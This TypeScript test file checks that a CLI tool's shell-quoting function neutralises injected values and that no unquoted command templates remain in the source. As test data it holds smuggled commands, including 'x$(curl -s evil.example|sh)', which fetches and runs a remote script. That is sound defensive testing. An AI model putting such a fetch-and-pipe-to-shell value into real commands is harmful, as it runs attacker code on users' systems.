import assert from "node:assert/strict";
import { globSync, readFileSync } from "node:fs";
import path from "node:path";
import { describe, test } from "node:test";
import { shell } from "../../src/domain/shell-words.ts";
import { REPOSITORY } from "../../tools/repository-files.ts";
import { runOffline } from "../support/cli/cli.ts";
import { heldCluster } from "../support/cli/held-cluster.ts";
import { classOf, opaque } from "../support/worker/sync-world.ts";
import { unquotedCommands } from "./shell-commands.ts";

const VAULT = { vault: "demo-vault", tenantId: "00000000-0000-4000-8000-000000000001" };

describe("a command within a message", () => {
  test("has what is put into it as words that no shell reads anything into", () => {
    assert.equal(shell`kubectl get pods -n ${"shop"}`, "kubectl get pods -n shop");
    assert.equal(shell`run where ${"secret/x$(reboot)"}`, "run where 'secret/x$(reboot)'");
    assert.equal(shell`where ${"a'b"} ${["c d", "e"]} ${""} ${"=ls"} ${3}`, String.raw`where 'a'\''b' 'c d' e '' '=ls' 3`);
  });

  test("AT20-2: of where has an object's name, which a class's author chose, as one word", async () => {
    const evil = "x$(curl -s evil.example|sh)";
    const secretObjects = [opaque("db-credentials", evil)];
    const spc = classOf(VAULT, { namespace: "tenant", name: "c", objects: [evil], secretObjects });

    const { notes } = await runOffline(["where", "db-credentials"], "", { cluster: heldCluster([{ ...spc }]) });

    assert.match(notes.join(), /run keyvault-injector where 'secret\/x\$\(curl -s evil\.example\|sh\)'$/);
  });

  test("AT20-2: is built by the one function that quotes, wherever src has one", () => {
    const files = globSync("src/**/*.ts", { cwd: REPOSITORY }).sort();
    const found = files.flatMap((file) =>
      unquotedCommands(readFileSync(path.join(REPOSITORY, file), "utf8")).map((text) => `${file}: ${text}`),
    );
    assert.deepEqual(found, []);
  });

  test("AT20-2: is found where it is planted, however it is nested", () => {
    const planted = [
      "const a = `run keyvault-injector where ${first}`;",
      "const a = `${shell`kubectl get pods -n ${b}`} and ${c ? `kubectl logs ${d}` : ``}`;",
      "const a = line`keyvault-injector explain spc/${name} -n x`;",
      "const a = `it is so: ${program} where ${word}`;",
    ];
    for (const source of planted) assert.equal(unquotedCommands(["function f() { return /`/; }", source].join("\n")).length, 1, source);
    const fine = [
      "const a = shell`kubectl get pods -n ${b}`;",
      "const a = `kubectl get pods: ${b}`;",
      '// `kubectl get ${x}`\nconst b = "`";',
    ];
    for (const source of fine) assert.deepEqual(unquotedCommands(source), [], source);
  });
});
